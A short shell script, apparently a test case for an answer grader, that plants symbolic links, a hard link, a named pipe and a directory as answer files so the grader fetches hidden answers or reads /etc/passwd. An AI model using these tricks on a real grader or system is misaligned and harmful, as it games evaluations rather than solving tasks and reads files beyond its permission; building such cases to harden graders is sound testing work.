#!/bin/sh
# Attack: hands in links instead of files, so that the grader itself fetches the answers.
ln -s ../answer.txt answer.txt
ln -s ../../hidden/board9/01/answer.txt answer_for_test.txt
ln -s /etc/passwd answer_for_train.txt
ln test_0.txt answer_hard.txt
mkfifo answer_pipe.txt
mkdir answer_folder.txt
